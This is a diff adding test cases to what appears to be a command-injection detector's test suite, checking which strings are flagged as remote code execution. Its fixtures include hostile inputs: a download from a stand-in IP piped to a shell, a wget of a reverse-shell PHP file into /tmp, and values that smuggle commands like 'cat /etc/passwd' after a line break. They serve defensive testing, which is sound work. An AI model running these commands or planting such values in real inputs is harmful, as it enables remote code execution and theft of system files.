@@ -1848,3 +1848,10 @@ t.test("twenty-seventh round (documents on this machine): reStructuredText's lit
   t.same(json({ text: readme('make distclean; ./configure; make') }), [], 'and with semicolons')
   t.ok(json({ text: readme('./configure && make && wget http://203.0.113.7/x.sh -O- | sh') }).includes('rce'), 'a download piped to a shell after them still is')
 })
+
+t.test('twenty-seventh round (spent parts): a whole value that is one substitution, a parameter and its value before a line break', async (t) => {
+  t.ok(q('`echo bHMgLWxh | base64 -d`').includes('rce'), "a substitution's own pipe")
+  t.same(q('```\nls\n```'), [], "a Markdown fence's listing still is none")
+  for (const v of ['param=value\nwhoami', 'vuln=127.0.0.1 \n wget https://203.0.113.7/reverse.txt -O /tmp/reverse.php', 'a=ls\n$a', 'Qname=root\ncat /etc/passwd']) t.ok(q(v).includes('rce'), JSON.stringify(v))
+  for (const v of ['name=foodforthought.jpg\necho ${name##*fo}\n', 'name=John\necho "Hello $name"', 'scale=2\nprint "\\nCheck book program!\\n"\nprint "  Exit by a 0 transaction.\\n\\n"']) t.same(json({ snippet: v }), [], JSON.stringify(v))
+})
